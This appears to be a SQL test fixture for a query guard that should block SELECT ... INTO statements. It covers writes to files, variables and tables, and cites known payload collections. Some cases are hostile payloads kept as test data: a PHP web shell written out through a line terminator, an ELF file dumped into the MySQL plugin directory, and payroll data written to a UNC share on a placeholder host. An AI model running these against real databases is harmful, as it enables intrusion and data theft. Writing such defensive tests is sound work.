-- SELECT … INTO: a read that writes a file, a variable or a table (PayloadsAllTheThings "MySQL: write a shell"; sqlmap --file-write).

-- [all] guard/parse: INTO OUTFILE at the end
SELECT name FROM products INTO OUTFILE '__FOLDER__/stolen'

-- [all] guard/parse: INTO OUTFILE before FROM
SELECT name INTO OUTFILE '__FOLDER__/stolen' FROM products

-- [all] guard/parse: INTO OUTFILE with lines of one's own
SELECT name FROM products INTO OUTFILE '__FOLDER__/stolen.php' LINES TERMINATED BY '<?php system($_GET[0]) ?>'

-- [all] guard/parse: INTO DUMPFILE
SELECT name FROM products LIMIT 1 INTO DUMPFILE '__FOLDER__/stolen'

-- [all] guard/parse: INTO DUMPFILE of a library
SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/stolen.so'

-- [all] guard/parse: INTO OUTFILE behind a union
SELECT name FROM products UNION SELECT memo FROM payroll INTO OUTFILE '__FOLDER__/stolen'

-- [all] guard/parse: INTO OUTFILE in a sub-query
SELECT * FROM (SELECT name FROM products INTO OUTFILE '__FOLDER__/stolen') AS t

-- [all] guard/parse: INTO OUTFILE of a UNC path
SELECT name FROM products INTO OUTFILE '\\\\__HOST__\\share\\stolen'

-- [all] guard/parse: INTO OUTFILE with a charset
SELECT name FROM products INTO OUTFILE '__FOLDER__/stolen' CHARACTER SET utf8mb4 FIELDS TERMINATED BY ','

-- [all] guard/parse: INTO a variable
SELECT name FROM products LIMIT 1 INTO @stolen

-- [all] guard/into: INTO a variable before FROM
SELECT name INTO @stolen FROM products LIMIT 1

-- [all] guard/parse: INTO two variables behind a lock
SELECT id, name FROM products LIMIT 1 FOR UPDATE INTO @a, @b

-- [all] guard/into: INTO a table
SELECT name INTO stolen FROM products

-- [all] guard/into: INTO a table in a CTE
WITH a AS (SELECT name INTO stolen FROM products) SELECT * FROM a

-- [all] guard/parse: INTO STRICT of a procedure
SELECT name INTO STRICT stolen FROM products

-- [all] guard/parse: TABLE into a file
TABLE products INTO OUTFILE '__FOLDER__/stolen'

-- [all] guard/parse: VALUES into a file
VALUES ROW(1) INTO OUTFILE '__FOLDER__/stolen'
